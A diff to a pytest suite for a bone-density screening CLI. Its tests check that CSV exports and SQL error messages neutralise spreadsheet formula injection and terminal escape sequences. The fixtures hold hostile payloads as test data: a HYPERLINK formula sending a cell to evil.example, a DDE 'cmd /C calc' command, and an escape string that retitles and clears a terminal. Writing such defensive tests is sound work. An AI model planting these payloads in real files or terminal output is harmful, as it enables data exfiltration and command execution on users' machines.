@@ -22,6 +22,7 @@ CLINIC = "@SUM(1+1)"
 NOTE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 BY = "=cmd|' /C calc'!A0"
 QUARANTINED = {"femoral_neck_t": "-9.9", "spine_t": "-1.5e3", "total_hip_t": "=1+2"}
+ESCAPE_CLINIC = "\x1b]0;owned\x07\x1b[2Jclinic-esc"  # a roster cell that retitles and clears a terminal
 
 
 @pytest.mark.parametrize(
@@ -111,7 +112,8 @@ def test_only_text_columns_and_names_change_and_only_in_csv():
 @pytest.fixture(scope="module")
 def out(tmp_path_factory):
     """A synthetic run plus: a patient whose id (and roster pcp_id) is a formula, with an open gap; three
-    quarantined values (two plain numbers, one formula); and a worklist mark with a formula note and by."""
+    quarantined values (two plain numbers, one formula); a worklist mark with a formula note and by; and a roster
+    patient whose clinic holds terminal escape sequences."""
     folder = tmp_path_factory.mktemp("csv_safety")
     paths = write_synthetic(folder, 40, seed=27, roster=True)
     scans = pl.read_csv(paths["scans"], infer_schema=False)
@@ -122,7 +124,8 @@ def out(tmp_path_factory):
     pl.concat([scans, pl.DataFrame(extra, schema=scans.schema)]).write_csv(paths["scans"])
     roster = pl.read_csv(paths["population"], infer_schema=False)
     evil = {**roster.row(0, named=True), "patient_id": PATIENT, "pcp_id": PATIENT, "clinic": CLINIC}
-    pl.concat([roster, pl.DataFrame([evil], schema=roster.schema)]).write_csv(paths["population"])
+    escaping = {**roster.row(0, named=True), "patient_id": "PESC1", "pcp_id": "pcp-esc", "clinic": ESCAPE_CLINIC}
+    pl.concat([roster, pl.DataFrame([evil, escaping], schema=roster.schema)]).write_csv(paths["population"])
     screen_synthetic(paths, folder / "out", "2026-07-01")
     marked = ["worklist", "mark", PATIENT, "untreated_high_risk", "--status", "contacted", "--note", NOTE, "--by", BY]
     assert main([*marked, "--out", str(folder / "out")]) == 0
@@ -173,6 +176,50 @@ def test_sql_leaves_numbers_and_numeric_text_as_they_are(out, capsys):
     t_scores = "SELECT lowest_t_score FROM screening WHERE lowest_t_score < 0 ORDER BY lowest_t_score LIMIT 3"
     numbers = [r[0] for r in _csv(capsys, "sql", "--out", str(out), "--format", "csv", t_scores)[1:]]
     assert numbers and all(n.startswith("-") and float(n) < 0 for n in numbers)
+
+
+@pytest.mark.parametrize(
+    ("query", "kept"),
+    [
+        (r"SELECT clinic::INT FROM population WHERE starts_with(clinic, chr(27))", "Could not convert string '…'"),
+        ("SELECT clinic::DATE FROM population WHERE starts_with(clinic, chr(27))", 'invalid date field format: "…"'),
+        ("SELECT clinic::INT FROM population WHERE starts_with(clinic, '@')", "Could not convert string '…'"),
+        # the formula holds double quotes: all of it is hidden, not just up to its first quote
+        ("SELECT pcp_id::DECIMAL(3, 1) FROM population WHERE starts_with(pcp_id, '=')", 'string "…" to DECIMAL'),
+        ("SELECT note::INT FROM outreach", "Could not convert string '…' to INT32"),
+    ],
+)
+def test_a_sql_error_shows_no_cell_and_no_control_character(out, capsys, query, kept):
+    """Before: ``Conversion Error: Could not convert string '<ESC>]0;owned…' to INT32`` reached the terminal,
+    the roster's cell and its escape sequences raw."""
+    assert main(["sql", "--out", str(out), query]) == 2
+    err = capsys.readouterr().err
+    assert err.count("\n") == 1 and err.startswith("osteo: SQL error: Conversion Error: ") and kept in err, err
+    assert not any(cell in err for cell in (ESCAPE_CLINIC, "owned", "clinic-esc", CLINIC, PATIENT, "evil", NOTE))
+    assert "\x1b" not in err and "\x07" not in err
+
+
+def test_sql_error_escapes_what_it_keeps(out, capsys):
+    """A name the query writes is kept, its control characters escaped (not a cell: the user's own text)."""
+    query = 'SELECT "a\x1b[2Jb"::INT FROM (SELECT clinic AS "a\x1b[2Jb" FROM population)'
+    assert main(["sql", "--out", str(out), query]) == 2
+    err = capsys.readouterr().err
+    assert err.count("\n") == 1 and "source column a\\x1b[2Jb" in err and "\x1b" not in err
+
+
+@pytest.mark.parametrize(
+    ("names", "header"),
+    [
+        (["=x", "'=x"], ["'=x_1", "'=x"]),  # before: =x left unquoted, as '=x was taken
+        (["'=x", "=x", "'=x_1"], ["'=x", "'=x_2", "'=x_1"]),
+        (["+1", "+a", "'+a", "@a", "'@a"], ["+1", "'+a_1", "'+a", "'@a_1", "'@a"]),  # +1: a plain number
+    ],
+)
+def test_a_header_is_safe_even_when_the_safe_name_is_taken(out, capsys, names, header):
+    query = "SELECT " + ", ".join(f"'v{n}' AS \"{name}\"" for n, name in enumerate(names))
+    rows = _csv(capsys, "sql", "--out", str(out), "--format", "csv", query)
+    assert rows == [header, [f"v{n}" for n in range(len(names))]] and _all_safe(rows)
+    assert _csv(capsys, "sql", "--out", str(out), "--raw", query)[0] == names  # --raw: names as stored
 
 
 def test_measures_csv(out, capsys, monkeypatch):
